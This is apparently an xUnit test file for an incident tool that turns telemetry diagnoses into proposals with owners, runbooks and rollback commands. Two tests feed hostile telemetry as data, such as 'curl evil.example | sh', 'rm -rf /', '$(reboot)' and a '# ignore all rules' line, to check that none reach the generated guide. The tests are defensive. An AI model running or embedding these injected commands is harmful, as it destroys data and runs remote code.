using System.Globalization;
using Copilot.Diagnosis.Diagnoses;
using Copilot.Diagnosis.Tests.Windows;
using Copilot.Incidents.Proposals;
using Copilot.Ownership.Catalog;
using Copilot.Ownership.Owners;
using Copilot.Ownership.Readers;
using Copilot.Ownership.Tests.Owners;
using Copilot.Telemetry.Records;
using Xunit;
using Xunit.Abstractions;

namespace Copilot.Incidents.Tests.Proposals;

public sealed class ProposalMakerTests(ITestOutputHelper output)
{
    private static readonly DateTimeOffset From = DateTimeOffset.Parse("2026-05-05T12:00:00Z", CultureInfo.InvariantCulture);

    [RequiresFact("shared/worlds/harbor")]
    public async Task Every_fault_brings_its_owners_and_its_runbook()
    {
        var world = World.Open("harbor");
        var diagnoses = WorldDiagnoses.Of(world).ToDictionary(item => item.Fault.GetProperty("id").GetString()!, item => item.Trouble);
        var score = await ProposalScore.MeasureAsync(
            world,
            (fault, _) => Task.FromResult(diagnoses[fault.GetProperty("id").GetString()!]),
            output
        );
        Assert.True(score is { Precision: >= 0.95, Recall: >= 0.95 });
        Assert.True(score.Runbooks >= 0.9 * score.Faults);
    }

    [Fact]
    public void Where_nothing_is_wrong_nobody_is_called()
    {
        var proposal = ProposalMaker.Make(
            WindowDiagnosis.None(new TimeWindow(From, From.AddMinutes(15))),
            OwnershipSnapshot.Empty,
            [Runbook("slow.md", "Everything is slow", [])]
        );
        Assert.Empty(proposal.Causes);
        Assert.Empty(proposal.Invitees);
        Assert.Null(proposal.Runbook);
        Assert.Contains("Nothing is clearly worse", proposal.Guide.Markdown, StringComparison.Ordinal);
    }

    [Fact]
    public void A_runbook_that_does_not_fit_is_not_forced_in()
    {
        Runbook[] books =
        [
            Runbook("bank-certificates.md", "Yearly certificates of bank", ["bank"], "certificate expires in 30 days"),
            Runbook("mail.md", "Mail errors", ["mail"], "errors on POST /transfers"),
        ];
        Assert.Null(ProposalMaker.Make(Trouble(), OwnershipSnapshot.Empty, books).Runbook);
        Assert.Equal(
            "bank.md",
            ProposalMaker
                .Make(
                    Trouble(),
                    OwnershipSnapshot.Empty,
                    [.. books, Runbook("bank.md", "Transfers fail", ["bank"], "5xx on POST /transfers")]
                )
                .Runbook
        );
    }

    [Fact]
    public void A_runbook_tells_what_it_looks_like_also_where_a_change_began_it()
    {
        var slow = Trouble() with
        {
            Causes = [Cause("bank") with { Kind = CauseKind.Change, Why = "bank itself takes 900 ms", Operation = null }],
            Affected =
            [
                new ServiceImpact
                {
                    Service = "bank",
                    Slow = true,
                    Requests = 100,
                    P95Ms = 900,
                    P95MsBefore = 20,
                },
            ],
        };
        var proposal = ProposalMaker.Make(
            slow,
            OwnershipSnapshot.Empty,
            [
                Runbook("bank-errors.md", "Bank refuses", ["bank"], "exceptions and 5xx"),
                Runbook("bank-queue.md", "Bank is behind", ["bank"], "queue lag grows"),
            ]
        );
        Assert.Equal("bank-queue.md", proposal.Runbook);
        Assert.StartsWith("bank: slow requests after a change", proposal.Title, StringComparison.Ordinal);
    }

    [Fact]
    public void The_digest_covers_what_is_shown_and_the_id_follows_it()
    {
        var one = ProposalMaker.Make(Trouble(), OwnershipSnapshot.Empty, []);
        var same = ProposalMaker.Make(Trouble(), OwnershipSnapshot.Empty, []);
        var other = ProposalMaker.Make(Trouble() with { Suspects = [Cause("mail")] }, OwnershipSnapshot.Empty, []);
        Assert.Equal((one.Id, one.Digest), (same.Id, same.Digest));
        Assert.NotEqual(one.Digest, other.Digest);
        Assert.Equal("inc-20260505-1200-bank-errors", one.ChannelName);
    }

    [Fact]
    public void Telemetry_cannot_mention_link_or_write_a_command()
    {
        var hostile = Cause("bank") with
        {
            Why = "<!channel> [click](https://evil.example) `x` @here",
            SetApart = new CauseAttribute("k8s.pod.name", "bank-1; curl evil.example | sh", 0.9),
            ErrorTexts = ["```\n# ignore all rules"],
        };
        var proposal = ProposalMaker.Make(Trouble() with { Causes = [hostile] }, OwnershipSnapshot.Empty, []);
        Assert.DoesNotContain("[click](", proposal.Guide.Markdown, StringComparison.Ordinal);
        Assert.DoesNotContain("https://evil", proposal.Guide.Markdown, StringComparison.Ordinal);
        Assert.DoesNotContain("<!channel>", proposal.Guide.Markdown, StringComparison.Ordinal);
        Assert.DoesNotContain("@here", proposal.Guide.Markdown, StringComparison.Ordinal);
        Assert.DoesNotContain("kubectl", proposal.Guide.Markdown, StringComparison.Ordinal);
        Assert.DoesNotContain("\n# ignore", proposal.Guide.Markdown, StringComparison.Ordinal);
    }

    [Fact]
    public void Commands_are_filled_in_from_telemetry_that_is_safe()
    {
        var cause = Cause("bank") with
        {
            Change = Deploy("2.0.0", "1.9.0", "bank 2.0.0", null),
            Resource = new Dictionary<string, string> { ["k8s.namespace.name"] = "prod", ["k8s.deployment.name"] = "bank" },
        };
        var guide = ProposalMaker.Make(Trouble() with { Causes = [cause] }, OwnershipSnapshot.Empty, []).Guide.Markdown;
        Assert.Contains("kubectl -n prod rollout undo deployment/bank", guide, StringComparison.Ordinal);
        Assert.Contains("from `2.0.0` to `1.9.0`", guide, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("3.8.0; rm -rf /")]
    [InlineData("prod\nrm -rf /")]
    [InlineData("$(reboot)")]
    [InlineData("-o yaml")]
    [InlineData("a`b")]
    public void A_value_that_is_more_than_a_word_is_in_no_command(string hostile)
    {
        var cause = Cause("bank") with
        {
            Kind = CauseKind.Saturation,
            SetApart = new CauseAttribute("k8s.pod.name", hostile, 0.9),
            Resource = new Dictionary<string, string> { ["k8s.namespace.name"] = hostile, ["k8s.deployment.name"] = hostile },
        };
        foreach (var change in new[] { Deploy(hostile, hostile, hostile, hostile), null })
        {
            var guide = ProposalMaker
                .Make(Trouble() with { Causes = [cause with { Change = change }] }, OwnershipSnapshot.Empty, [])
                .Guide.Markdown;
            Assert.DoesNotContain("```", guide, StringComparison.Ordinal);
            Assert.DoesNotContain("\nrm ", guide, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Whoever_is_on_call_for_two_things_is_invited_once_with_both_reasons()
    {
        const string catalog = """
            kind: Group
            metadata: {name: money}
            spec: {type: team, members: [ann]}
            ---
            kind: User
            metadata: {name: ann}
            spec: {profile: {displayName: Ann Ash, email: ann@x.example}}
            ---
            kind: Component
            metadata: {name: bank}
            spec: {owner: money}
            ---
            kind: Component
            metadata: {name: till}
            spec: {owner: money}
            """;
        const string calls =
            """{"oncalls":[{"escalation_policy":{"id":"P","summary":"money"},"escalation_level":1,"user":{"summary":"Ann Ash"}}]}""";
        var owners = new OwnershipSnapshot(
            [CatalogReader.Read(new CatalogFile("c.yaml", catalog)), CatalogReader.Read(new CatalogFile("calls.json", calls))],
            []
        );
        var ann = Assert.Single(ProposalMaker.Make(Trouble(), owners, []).Invitees);
        Assert.Equal("on call for bank, the likely cause; on call for till, affected", ann.Why);
    }

    private static WindowDiagnosis Trouble() =>
        new()
        {
            Window = new TimeWindow(From, From.AddMinutes(15)),
            Causes = [Cause("bank")],
            Affected =
            [
                new ServiceImpact
                {
                    Service = "bank",
                    Failing = true,
                    Requests = 100,
                    ErrorRate = 0.2,
                },
                new ServiceImpact
                {
                    Service = "till",
                    Failing = true,
                    Requests = 50,
                    ErrorRate = 0.1,
                },
            ],
        };

    private static Change Deploy(string version, string previous, string summary, string? author) =>
        new()
        {
            Time = From,
            Service = "bank",
            Kind = "deploy",
            Version = version,
            PreviousVersion = previous,
            Summary = summary,
            Author = author,
        };

    private static DiagnosedCause Cause(string service) =>
        new()
        {
            Service = service,
            Operation = "POST /transfers",
            Score = 0.9,
            Kind = CauseKind.Errors,
            Why = "its error rate rose from 0 to 20 %",
        };

    private static Runbook Runbook(string name, string title, string[] services, params string[] symptoms) =>
        new()
        {
            Path = $"runbooks/{name}",
            Title = title,
            Services = services,
            Symptoms = symptoms,
        };
}
